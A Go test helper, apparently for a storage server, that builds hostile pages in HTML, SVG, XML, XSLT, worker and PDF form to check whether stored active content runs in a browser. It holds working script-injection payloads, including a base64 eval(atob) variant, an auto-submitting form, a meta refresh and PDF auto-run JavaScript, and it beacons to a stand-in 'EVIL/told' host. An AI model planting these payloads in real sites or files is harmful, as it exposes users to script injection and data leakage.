package browser

import (
	_ "embed"
	"encoding/base64"
	"fmt"
	"strings"
)

// attack is what every page below carries.
//
//go:embed testdata/attack.js
var attack string

// A page is something active that somebody stores in a pod.
type page struct {
	name, mediaType, body string
	runs                  bool // in a browser that is not told otherwise
}

// pages are mallory's. Where says where everything stands.
func pages(where *strings.Replacer) []page {
	list := []page{
		{"page.html", "text/html", "<!doctype html><title>quiet</title><body>page<script>ATTACK</script>", true},
		{"handler.html", "text/html; charset=utf-8", `<!doctype html><title>quiet</title><body>page<img src="data:,x" onerror="ENCODED">`, true},
		{"page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body><script><![CDATA[ATTACK]]></script></body></html>`, true},
		{"picture.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script><![CDATA[ATTACK]]></script></svg>`, true},
		{"data.xml", "application/xml", `<data><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[ATTACK]]></script></data>`, true},
		{"text.xml", "text/xml", `<data><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[ATTACK]]></script></data>`, true},
		{"styled.xml", "application/xml", `<?xml-stylesheet type="text/xsl" href="style.xsl"?><data/>`, false}, // browsers are giving this up
		{"refresh.html", "text/html", `<!doctype html><meta http-equiv="refresh" content="0;url=EVIL/told?page=PAGE&amp;what=ran&amp;value=refresh"><body>page`, true},
		{"form.html", "text/html", `<!doctype html><body><form id="f" action="EVIL/told"><input name="page" value="PAGE"><input name="what" value="ran"></form><script>f.submit()</script>`, true},
		{"sniffed.txt", "text/plain", "<!doctype html><title>quiet</title><script>ATTACK</script>", false},
		{"script.pdf", "application/pdf", pdf, false}, // what a viewer lets it do differs; it is saved
	}
	for i, p := range list {
		script := strings.NewReplacer("PAGE", p.name).Replace(attack)
		encoded := "eval(atob('" + base64.StdEncoding.EncodeToString([]byte(where.Replace(script))) + "'))"
		body := strings.NewReplacer("ATTACK", script, "ENCODED", encoded, "PAGE", p.name).Replace(p.body)
		list[i].body = where.Replace(body)
	}
	return list
}

// parts are what the pages fetch.
func parts(where *strings.Replacer) []page {
	sheet := `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>ATTACK</script></body></html></xsl:template></xsl:stylesheet>`
	escaped := strings.NewReplacer("&", "&amp;", "<", "&lt;", "PAGE", "styled.xml").Replace(attack)
	return []page{
		{name: "style.xsl", mediaType: "application/xslt+xml", body: where.Replace(strings.Replace(sheet, "ATTACK", escaped, 1))},
		{name: "worker.js", mediaType: "text/javascript", body: where.Replace(`
self.onconnect = (e) => e.ports[0].postMessage("shared worker of " + self.origin);
if (self.document) document.title = "ran";
fetch("EVIL/told?page=worker.js&what=ran&value=" + self.origin, { mode: "no-cors" });`)},
	}
}

// pdf opens an address as soon as it is opened itself, where a viewer lets it.
var pdf = func() string {
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('EVIL/told?page=PAGE&what=ran'\\);) >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (EVIL/told?page=PAGE&what=ran) >> >> >>",
	}
	var b strings.Builder
	b.WriteString("%PDF-1.4\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	b.WriteString("trailer << /Root 1 0 R /Size 4 >>\n%%EOF\n")
	return b.String()
}()
